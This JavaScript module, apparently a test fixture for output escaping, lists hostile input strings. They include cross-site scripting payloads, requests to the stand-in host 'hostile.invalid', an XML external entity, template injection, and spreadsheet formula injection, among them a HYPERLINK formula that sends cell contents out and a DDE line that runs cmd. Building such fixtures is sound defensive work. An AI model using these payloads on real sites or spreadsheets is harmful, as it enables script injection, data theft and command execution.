// Texts that run, fetch or break out where a page or a figure takes them for markup. Each that runs calls
// alert(); each that fetches asks for HOST.
"use strict";

const HOST = "http://hostile.invalid";

const strings = [
    // markup that runs
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "</title><script>alert(3)</script>",
    "</style><script>alert(4)</script>",
    "\"><script>alert(5)</script>",
    "'><script>alert(6)</script>",
    "--><script>alert(7)</script><!--",
    "]]><script>alert(8)</script><![CDATA[",
    "</desc></svg><script>alert(9)</script>",
    "<SCRIPT SRC=//hostile.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>alert(10)</scr</script>ipt>",
    "<script\u000d\u000a>alert(11)</script\u0009>",
    // handlers
    `<img src=${HOST}/a.png onerror=alert(12)>`,
    "<svg onload=alert(13)>",
    "<svg/onload=alert(14)//",
    "<body onload=alert(15)>",
    "<details open ontoggle=alert(16)>",
    "<input autofocus onfocus=alert(17)>",
    "\" onmouseover=\"alert(18)\" x=\"",
    "' onfocus='alert(19)' tabindex='0",
    "` onclick=`alert(20)`",
    "\" autofocus onfocus=alert(21) \"",
    "<marquee onstart=alert(22)>",
    "<video><source onerror=alert(23)></video>",
    // links and fetches
    "javascript:alert(24)",
    "<a href=\"javascript:alert(25)\">x</a>",
    "<a href='java\u0009script:alert(26)'>x</a>",
    "data:text/html,<script>alert(27)</script>",
    `<iframe src="${HOST}/frame"></iframe>`,
    "<iframe srcdoc='&lt;script&gt;alert(28)&lt;/script&gt;'></iframe>",
    `<link rel=stylesheet href=${HOST}/s.css>`,
    `<meta http-equiv=refresh content="0;url=${HOST}/r">`,
    `<base href=${HOST}/>`,
    `<object data=${HOST}/o></object><embed src=${HOST}/e>`,
    `<form action=${HOST}/f><button autofocus>`,
    // figures
    `<image href="${HOST}/i.png" xlink:href="${HOST}/j.png"/>`,
    `<use href="${HOST}/u.svg#x"/>`,
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(29)'/></foreignObject>",
    "<animate attributeName=href values=javascript:alert(30) begin=0s />",
    "<set attributeName=onmouseover to=alert(31) />",
    `<?xml-stylesheet href="${HOST}/x.css"?>`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${HOST}/e">]>&x;`,
    // styles
    `<style>*{background:url(${HOST}/b.png)}</style>`,
    `url(${HOST}/c.png)`,
    `;background:url("${HOST}/d.png");`,
    `}</style><style>@import "${HOST}/i.css";`,
    "expression(alert(32))",
    // entities
    "&lt;script&gt;alert(33)&lt;/script&gt;",
    "&#60;script&#62;alert(34)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(35)&amp;gt;",
    "&#x0;&#xD800;&notanentity;&",
    // templates
    "{{{title}}} {{#sections}}{{title}}{{/sections}}",
    "{{=<% %>=}}<%& title %>",
    "${alert(36)} #{alert(37)} <%= alert(38) %>",
    // characters
    "\u202Etxet desrever\u2066\u200B\uFEFF",
    "A\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B\u030C\u030D\u030E\u030F",
    "control \u0001\u0007\u0008\u000B\u001B[31m\u007F\u0085\u2028\u2029 characters",
    "long ".repeat(400) + "W".repeat(600),
    // formulas
    "=HYPERLINK(\"http://hostile.invalid/\"&A1,\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2\t=1+1",
    "\t=1+1",
];

module.exports = { HOST, strings };
